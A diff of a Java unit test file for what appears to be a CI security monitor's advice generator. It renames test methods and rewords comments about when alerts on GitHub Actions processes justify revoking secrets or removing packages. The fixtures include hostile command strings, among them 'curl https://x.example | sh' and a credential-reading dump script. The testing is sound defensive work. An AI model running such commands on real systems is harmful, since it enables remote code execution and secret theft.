@@ -17,7 +17,7 @@ import java.util.ArrayList;
 import java.util.List;
 import org.junit.jupiter.api.Test;
 
-/** Advice says no more than the evidence: who is to be stopped did it itself, and did more than what a warning is for. */
+/** Advice claims no more than the evidence: it only recommends against actors whose own code caused more than a warning. */
 final class AdviceTest {
     private static final String STOLEN = "Treat every secret that this job could read as compromised";
 
@@ -113,7 +113,7 @@ final class AdviceTest {
     }
 
     @Test
-    void anActionIsToBeStoppedForWhatItsOwnCodeDid() {
+    void recommendsStoppingAnActionWhoseOwnCodeDidIt() {
         int node = process(-1, "node", "node /w/_actions/tj-actions/changed-files/v45/dist/index.js", 1, -1);
         int reader = process(node, "python3", "python3 /w/_temp/dump.py", 1, -1);
         alert(Priority.CRITICAL, "Memory Read", reader, "mitre_credential_access");
@@ -124,9 +124,9 @@ final class AdviceTest {
                                 + " that you have reviewed.");
     }
 
-    /** What a process says of itself, or was told as a text, is no evidence against the action. */
+    /** Text in a command line is not evidence against an action. */
     @Test
-    void anActionIsNotBlamedForWhatACommandLineSays() {
+    void commandLineTextDoesNotBlameAction() {
         String own = "/w/_actions/tj-actions/changed-files/v45/dist/index.js";
         for (String command : List.of(
                 "python3 -c x " + own,
@@ -151,7 +151,7 @@ final class AdviceTest {
         int shell = process(node, "bash", "bash -c curl https://x.example | sh", 1, -1);
         alert(Priority.ERROR, "One", process(shell, "cat", "cat x", 1, -1));
         assertThat(advice()).singleElement().asString().startsWith("Review what cat did in Changed files");
-        // Its own file does it, by whatever it was started.
+        // Its own file does it, regardless of what started it.
         alerts.clear();
         rules.clear();
         String dump = "python3 /w/_actions/tj-actions/changed-files/v45/dump.py";
@@ -161,7 +161,7 @@ final class AdviceTest {
     }
 
     @Test
-    void aWarningAsksToLook() {
+    void warningAsksForReview() {
         int git = process(-1, "git", "/tmp/demo/bin/git clone", 0, -1);
         alert(Priority.WARNING, "Program Started From a Temporary Place", git, "mitre_execution");
         assertThat(advice())
@@ -171,7 +171,7 @@ final class AdviceTest {
     }
 
     @Test
-    void anActionIsNotBlamedForWhatTheCheckoutRuns() {
+    void programOfTheCheckoutDoesNotBlameAction() {
         int node = process(-1, "node", "node /w/_actions/tj-actions/changed-files/v45/dist/index.js", 1, -1);
         int test = process(node, "sh", "sh /w/app/app/test.sh", 1, -1);
         int make = process(node, "make", "make all", 1, -1);
@@ -183,9 +183,9 @@ final class AdviceTest {
         assertThat(advice()).singleElement().asString().startsWith("Review what cat did in Changed files");
     }
 
-    /** Whoever builds names files of the checkout as they lie there. */
+    /** Build tools name files of the checkout by relative paths. */
     @Test
-    void anActionIsNotBlamedForAScriptOfTheCheckoutByAnyName() {
+    void scriptOfTheCheckoutByAnyNameDoesNotBlameAction() {
         int node = process(-1, "node", "node /w/_actions/tj-actions/changed-files/v45/dist/index.js", 1, -1);
         for (String command : List.of(
                 "node build.js",
@@ -206,40 +206,40 @@ final class AdviceTest {
         }
     }
 
-    /** What runs none of the action's files may be of a container, or of a composite action's own steps. */
+    /** A process that runs none of the action's files may belong to a container, or to a composite action's own steps. */
     @Test
-    void anActionIsNotBlamedWithoutAFileOfItsOwn() {
+    void actionWithoutOwnFileIsNotBlamed() {
         alert(Priority.ERROR, "One", process(-1, "python3", "python3 /w/_temp/x", 1, -1));
         assertThat(advice()).singleElement().asString().startsWith("Review what python3 did in Changed files");
     }
 
     @Test
-    void aStepThatIsNotSureIsLookedAt() {
+    void uncertainStepGetsReview() {
         confidence = "medium";
         alert(Priority.ERROR, "One", process(-1, "node", "node /w/_actions/x.js", 1, -1));
         assertThat(advice()).singleElement().asString().startsWith("Review what node did in Changed files");
     }
 
     @Test
-    void aPackageIsToBeRemovedWhereItsScriptDidMoreThanAWarning() {
+    void recommendsRemovingPackageOnlyAboveWarning() {
         scripts.add(new ScriptFacts(0, "npm", "left", "1.0.0", "postinstall", true, "high", "manager", "npm", 1));
         int script = process(-1, "node", "node setup.js", 2, 0);
         alert(Priority.WARNING, "One", script);
         assertThat(advice()).containsExactly("Review what left 1.0.0 runs when it is installed: it triggered “One”.");
         alert(Priority.ERROR, "Two", script);
-        // The rules of a report are in the order of their urgency.
+        // The rules of a report are sorted by urgency.
         rules.set(0, new RuleFacts(0, "One", "", Priority.ERROR, List.of(), 1, List.of(0)));
         assertThat(advice()).anySatisfy(advice -> assertThat(advice).startsWith("Remove left 1.0.0"));
     }
 
     @Test
-    void lessThanAWarningAsksForNothing() {
+    void priorityBelowWarningGivesNoAdvice() {
         alert(Priority.NOTICE, "One", process(-1, "curl", "curl x", 1, -1), "mitre_credential_access");
         assertThat(advice()).isEmpty();
     }
 
     @Test
-    void aWarningIsNoTheft() {
+    void warningDoesNotRevokeSecrets() {
         alert(Priority.WARNING, "Search", process(-1, "grep", "grep token", 2, -1), "mitre_credential_access");
         assertThat(advice())
                 .contains(
@@ -248,16 +248,16 @@ final class AdviceTest {
     }
 
     @Test
-    void whatWasDeniedIsNotStolen() {
+    void deniedEgressDoesNotRevokeSecrets() {
         alert(Priority.ERROR, "Egress Denied", process(-1, "curl", "curl x", 2, -1), "mitre_exfiltration");
         assertThat(advice())
                 .noneMatch(advice -> advice.startsWith(STOLEN))
                 .anySatisfy(advice -> assertThat(advice).startsWith("Review the denied destinations"));
     }
 
-    /** The registry that all talk to is no trace of who did it. */
+    /** A registry that every process contacts is not an indicator. */
     @Test
-    void onlyPeersOfWhoDidItAreToBeLookedFor() {
+    void searchesOnlyPeersOfOffendingProcesses() {
         int root = process(-1, "bash", "bash", 2, -1);
         int install = process(root, "npm", "npm ci", 2, -1);
         int script = process(install, "sh", "sh -c x", 2, -1);
